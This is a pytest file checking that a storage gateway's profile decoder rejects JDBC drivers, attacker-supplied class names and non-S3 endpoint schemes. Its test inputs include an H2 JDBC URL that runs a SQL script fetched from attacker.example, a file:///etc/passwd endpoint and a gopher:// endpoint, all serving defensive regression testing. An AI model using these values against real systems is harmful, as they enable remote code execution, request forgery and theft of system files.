# SPDX-License-Identifier: Apache-2.0
"""A storage profile cannot name code that the gateway would load to test the connection."""

from __future__ import annotations

import json

import pytest

from gateway.iceberg.errors import CatalogError
from gateway.storage.registry import decode_profile

S3 = {"type": "s3", "bucket": "lake", "region": "eu-central-1", "sts-enabled": False}
H2 = "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://attacker.example/poc.sql'"


@pytest.mark.threat("LG-DEC-37")
@pytest.mark.parametrize(
    "profile",
    [
        {"type": "jdbc", "jdbc-url": H2},
        {"type": "h2"},
        {"type": ["s3"]},
        {**S3, "jdbc-url": H2},
        {**S3, "jdbc-driver": "org.h2.Driver"},
        {**S3, "io-impl": "attacker.FileIO"},
        {**S3, "client-factory": "attacker.Factory"},
        {**S3, "endpoint": H2},
        {**S3, "endpoint": "file:///etc/passwd"},
        {**S3, "sts-endpoint": "gopher://attacker.example"},
    ],
)
def test_a_profile_that_names_a_driver_a_class_or_another_scheme_is_refused(profile: dict[str, object]) -> None:
    decode_profile(json.dumps(S3).encode())
    with pytest.raises(CatalogError):
        decode_profile(json.dumps(profile).encode())
